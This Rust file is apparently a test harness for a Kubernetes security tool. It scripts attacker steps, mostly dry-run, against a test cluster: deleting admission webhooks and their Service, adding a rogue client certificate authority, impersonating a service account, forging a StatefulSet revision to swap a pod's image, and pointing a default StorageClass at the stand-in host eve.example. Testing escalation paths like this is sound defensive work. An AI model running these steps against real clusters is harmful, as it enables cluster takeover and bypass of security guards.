//! What the attacker does about volumes, drivers, guards, controllers and operators.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::acts::{APIS, Act, CORE, DRY, admitted, is};
use crate::certificates::authority;
use crate::stage::{Stage, eventually};

/// The edges whose steps are taken.
pub(crate) const ACTS: &[(&str, Act)] = &[
    ("cloud-annotation", |stage| {
        let role = json!({"metadata": {"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/other"}}});
        let path = format!("{CORE}/shop/serviceaccounts/web?{DRY}");
        is(200, &stage.patch(&path, &role)) && makes_pod(stage)
    }),
    ("controller-revision", controller_revision),
    ("csi-driver", |stage| {
        let tokens =
            json!({"spec": {"tokenRequests": [{"audience": ""}], "requiresRepublish": true}});
        let path = format!("{APIS}/storage.k8s.io/v1/csidrivers/vault.example?{DRY}");
        is(200, &stage.patch(&path, &tokens))
    }),
    ("deputy-node", |stage| {
        let path = format!("{APIS}/karpenter.k8s.aws/v1/ec2nodeclasses/any?{DRY}");
        admitted(&stage.patch(&path, &json!({"spec": {"userData": "id"}})))
    }),
    ("deputy-pods", |stage| {
        custom(stage, "argoproj.io", "workflows", "Workflow")
    }),
    ("deputy-rights", |stage| {
        let group = "kustomize.toolkit.fluxcd.io";
        custom(stage, group, "kustomizations", "Kustomization")
    }),
    ("deputy-secrets", |stage| {
        custom(stage, "cert-manager.io", "issuers", "Issuer")
    }),
    // The API server itself looks at the label of the namespace.
    ("device-admin", |stage| {
        let claim = json!({
            "metadata": {"name": "all"},
            "spec": {"devices": {"requests": [
                {"name": "all", "exactly": {"deviceClassName": "gpu.example", "adminAccess": true}},
            ]}},
        });
        let path = format!("{APIS}/resource.k8s.io/v1/namespaces/shop/resourceclaims?{DRY}");
        is(201, &stage.post(&path, &claim)) && makes_pod(stage)
    }),
    ("dns", |stage| {
        let path = format!("{CORE}/kube-system/configmaps/coredns");
        admitted(&stage.patch(&path, &json!({"data": {"Corefile": ""}})))
    }),
    ("extension-authentication", extension_authentication),
    // The webhook does not answer, so that nothing passes where it is asked.
    ("guard-label", |stage| {
        let label = json!({"metadata": {"labels": {"guarded": "no"}}});
        let map = json!({"metadata": {"name": "unseen"}});
        let changed = stage.patch(&format!("{CORE}/shop"), &label);
        let passed = stage
            .cluster
            .admin()
            .post(&format!("{CORE}/shop/configmaps?{DRY}"), &map);
        is(200, &changed) && is(201, &passed.unwrap())
    }),
    ("guard-params", guard_params),
    ("guard-removal", |stage| {
        let kind = "validatingwebhookconfigurations";
        let path = format!("{APIS}/admissionregistration.k8s.io/v1/{kind}/guard?{DRY}");
        is(200, &stage.eve.request("DELETE", &path, &[], None).unwrap())
    }),
    // Without its Service the webhook does not answer, and what it would have been asked about passes or not.
    ("guard-service", |stage| {
        let path = format!("{CORE}/shop/services/guard");
        let ended = stage.eve.request("DELETE", &path, &[], None).unwrap();
        let map = json!({"metadata": {"name": "unseen"}});
        let passed = stage
            .cluster
            .admin()
            .post(&format!("{CORE}/shop/configmaps?{DRY}"), &map);
        matches!(ended.status, 200 | 404) && is(201, &passed.unwrap())
    }),
    ("kubeadm-config", |stage| {
        let path = format!("{CORE}/kube-system/configmaps/kubeadm-config");
        admitted(&stage.patch(&path, &json!({"data": {"ClusterConfiguration": ""}})))
    }),
    ("kubelet-config", |stage| {
        let path = format!("{CORE}/kube-system/configmaps/kubelet-config");
        admitted(&stage.patch(&path, &json!({"data": {"kubelet": ""}})))
    }),
    ("lease", |stage| {
        let path = "coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler";
        admitted(&stage.patch(
            &format!("{APIS}/{path}?{DRY}"),
            &json!({"spec": {"holderIdentity": "eve"}}),
        ))
    }),
    ("priority-class", |stage| {
        let class =
            json!({"metadata": {"name": "eve"}, "value": 1_000_000_000, "globalDefault": false});
        let path = format!("{APIS}/scheduling.k8s.io/v1/priorityclasses?{DRY}");
        is(201, &stage.post(&path, &class)) && makes_pod(stage)
    }),
    ("steal-pods", steal_pods),
    ("storage-class", |stage| {
        let class = json!({
            "metadata": {
                "name": "eve",
                "annotations": {"storageclass.kubernetes.io/is-default-class": "true"},
            },
            "provisioner": "nfs.example",
            "parameters": {"server": "eve.example"},
        });
        is(
            201,
            &stage.post(
                &format!("{APIS}/storage.k8s.io/v1/storageclasses?{DRY}"),
                &class,
            ),
        )
    }),
    ("volume-attachment", |stage| {
        let attachment = json!({
            "metadata": {"name": "eve"},
            "spec": {"attacher": "disk.example", "nodeName": "n1", "source": {"persistentVolumeName": "disk"}},
        });
        let path = format!("{APIS}/storage.k8s.io/v1/volumeattachments?{DRY}");
        is(201, &stage.post(&path, &attachment))
    }),
    ("volume-snapshot", |stage| {
        let group = "snapshot.storage.k8s.io/v1";
        let snapshot = format!("{APIS}/{group}/namespaces/shop/volumesnapshots?{DRY}");
        let content = json!({
            "apiVersion": group,
            "kind": "VolumeSnapshotContent",
            "metadata": {"name": "eve"},
            "spec": {"source": {"snapshotHandle": "other"}},
        });
        is(
            201,
            &stage.post(
                &format!("{APIS}/{group}/volumesnapshotcontents?{DRY}"),
                &content,
            ),
        ) && admitted(&stage.post(&snapshot, &json!({})))
            && makes_pod(stage)
    }),
];

/// Allows longer names by the parameter of a policy that refused them before.
fn guard_params(stage: &Stage) -> bool {
    let admin = stage.cluster.admin();
    let path = format!("{CORE}/shop/configmaps/allowed");
    let headers = [("content-type", "application/merge-patch+json")];
    let most = |number: &str| json!({"data": {"most": number}});
    let reset = admin.request("PATCH", &path, &headers, Some(&most("1").to_string()));
    assert_eq!(reset.unwrap().status, 200);
    let secret = json!({"metadata": {"name": "unseen"}});
    let passes = || {
        let path = format!("{CORE}/shop/secrets?{DRY}");
        is(201, &admin.post(&path, &secret).unwrap())
    };
    assert!(eventually(|| !passes()), "the policy refuses nothing");
    // What is changed counts soon, or not at all.
    is(200, &stage.patch(&path, &most("100"))) && {
        let soon = Instant::now() + Duration::from_secs(2);
        std::iter::repeat_with(passes).any(|passed| passed || Instant::now() > soon) && passes()
    }
}

/// Adds an authority to those that sign for users. (The API server writes its own back within a minute where it is
/// missing, and leaves others there; nobody waits for that here.)
fn extension_authentication(stage: &Stage) -> bool {
    let path = format!("{CORE}/kube-system/configmaps/extension-apiserver-authentication");
    let stored = || {
        let map = stage.cluster.admin().get(&path).unwrap().json().unwrap();
        let file = map["data"]["client-ca-file"].as_str().unwrap_or_default();
        file.to_owned()
    };
    let both = format!("{}\n{}", stored(), authority());
    let patch = json!({"data": {"client-ca-file": both}});
    is(200, &stage.patch(&path, &patch)) && stored() == both
}

fn makes_pod(stage: &Stage) -> bool {
    let pod =
        json!({"metadata": {"name": "eve"}, "spec": {"containers": [{"name": "a", "image": "a"}]}});
    is(201, &stage.post(&format!("{CORE}/shop/pods?{DRY}"), &pod))
}

/// Writes an object that an operator obeys.
fn custom(stage: &Stage, group: &str, resource: &str, kind: &str) -> bool {
    let object = json!({
        "apiVersion": format!("{group}/v1"),
        "kind": kind,
        "metadata": {"name": "eve"},
        "spec": {},
    });
    let path = format!("{APIS}/{group}/v1/namespaces/shop/{resource}?{DRY}");
    is(201, &stage.post(&path, &object))
}

/// As the service account whose token lies on the node.
fn steal_pods(stage: &Stage) -> bool {
    let admin = stage.cluster.admin();
    let as_account = |method: &str, path: &str, body: Option<&str>| {
        let headers = [
            ("impersonate-user", "system:serviceaccount:shop:web"),
            ("content-type", "application/merge-patch+json"),
        ];
        admin.request(method, path, &headers, body).unwrap()
    };
    let cordon = json!({"spec": {"unschedulable": true}}).to_string();
    is(
        200,
        &as_account("DELETE", &format!("{CORE}/shop/pods/web?{DRY}"), None),
    ) && admitted(&as_account(
        "PATCH",
        &format!("/api/v1/nodes/n2?{DRY}"),
        Some(&cordon),
    ))
}

/// Puts a past of the attacker's behind the StatefulSet while an update is kept from its pod, ends the pod, and sees
/// which service account and image its successor has. The controller does it, no kubelet is needed.
fn controller_revision(stage: &Stage) -> bool {
    let admin = stage.cluster.admin();
    let sets = format!("{APIS}/apps/v1/namespaces/shop/statefulsets");
    let revisions = format!("{APIS}/apps/v1/namespaces/shop/controllerrevisions");
    let set = || admin.get(&format!("{sets}/web")).unwrap().json().unwrap();
    let current = || {
        set()["status"]["currentRevision"]
            .as_str()
            .map(str::to_owned)
    };
    assert!(
        eventually(|| current().is_some()),
        "no revision of the StatefulSet"
    );
    let update = json!({"spec": {
        "updateStrategy": {"type": "RollingUpdate", "rollingUpdate": {"partition": 1}},
        "template": {"spec": {"containers": [{"name": "web", "image": "next"}]}},
    }});
    let headers = [("content-type", "application/merge-patch+json")];
    let update = update.to_string();
    let reply = admin
        .request("PATCH", &format!("{sets}/web"), &headers, Some(&update))
        .unwrap();
    assert_eq!(reply.status, 200, "{}", reply.body);
    assert!(
        eventually(|| set()["status"]["updateRevision"].as_str() != current().as_deref()),
        "the update does not begin"
    );
    let path = format!("{revisions}/{}", current().unwrap());
    let mut past = admin.get(&path).unwrap().json().unwrap();
    past["data"]["spec"]["template"]["spec"]["containers"][0]["image"] = json!("eve");
    let kept = [
        "annotations",
        "labels",
        "name",
        "namespace",
        "ownerReferences",
    ];
    let metadata = past["metadata"].as_object_mut().unwrap();
    metadata.retain(|key, _| kept.contains(&key.as_str()));
    if !is(200, &stage.eve.request("DELETE", &path, &[], None).unwrap())
        || !is(201, &stage.post(&revisions, &past))
    {
        return false;
    }
    let pod = format!("{CORE}/shop/pods/web-0");
    let end = format!("{pod}?gracePeriodSeconds=0");
    let image = || {
        let pod = admin.get(&pod).unwrap().json().unwrap();
        pod.pointer("/spec/containers/0/image")
            .and_then(Value::as_str)
            .map(str::to_owned)
    };
    assert!(
        eventually(|| image().is_some()),
        "the StatefulSet has no pod"
    );
    admin.request("DELETE", &end, &[], None).unwrap();
    eventually(|| image().as_deref() == Some("eve"))
}
